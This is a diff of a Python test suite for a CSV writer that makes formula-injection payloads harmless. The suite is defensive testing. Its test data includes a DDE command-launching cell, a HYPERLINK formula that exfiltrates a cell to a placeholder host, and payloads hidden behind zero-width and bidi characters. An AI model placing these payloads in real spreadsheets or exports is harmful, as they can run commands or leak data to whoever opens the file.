@@ -4,11 +4,13 @@ import csv
 from collections.abc import Callable
 from pathlib import Path
 
+import pyarrow as pa
+import pyarrow.compute as pc
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from portrayal.csvfile import CsvRow, csv_text, finite, original_text, read_csv, safe_cell
+from portrayal.csvfile import FORMULA, CsvRow, csv_text, finite, original_text, read_csv, safe_cell
 from portrayal.errors import InputError
 
 Write = Callable[[str | bytes], Path]
@@ -115,6 +117,11 @@ def test_what_the_csv_module_writes_is_read_back(tmp_path: Path, rows: list[tupl
 
 
 FORMULAS = [
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    " \u200b\u00a0 =1+1",
+    "\u200b\t=1+1",
+    "\u200e\u202d@SUM(A1)",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://x/?"&A1,"a")',
     "+1+1",
@@ -153,12 +160,17 @@ def test_other_texts_are_written_as_they_are(text: str) -> None:
     assert csv_text(["name"], [[text, "x"]]).splitlines()[1] == f"{text},x"
 
 
-@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n 1a.e＝"), max_size=6))
+def test_arrow_finds_the_same_formulas() -> None:
+    found = pc.match_substring_regex(pa.array([*FORMULAS, "a=b", "'quoted'", ""]), FORMULA).to_pylist()
+    assert found == [True] * len(FORMULAS) + [False] * 3
+
+
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n 1a.e＝\u200b\ufeff"), max_size=6))
 def test_no_cell_begins_a_formula_and_each_is_read_as_it_was(text: str) -> None:
     cell = safe_cell(text)
     assert isinstance(cell, str)
     assert original_text(cell) == text
-    assert finite(cell) is not None or not cell.lstrip().startswith(("=", "+", "-", "@", "＝"))
+    assert finite(cell) is not None or not cell.lstrip("\u200b\ufeff \t\r\n").startswith(("=", "+", "-", "@", "＝"))
 
 
 def test_the_header_is_made_harmless_too() -> None:
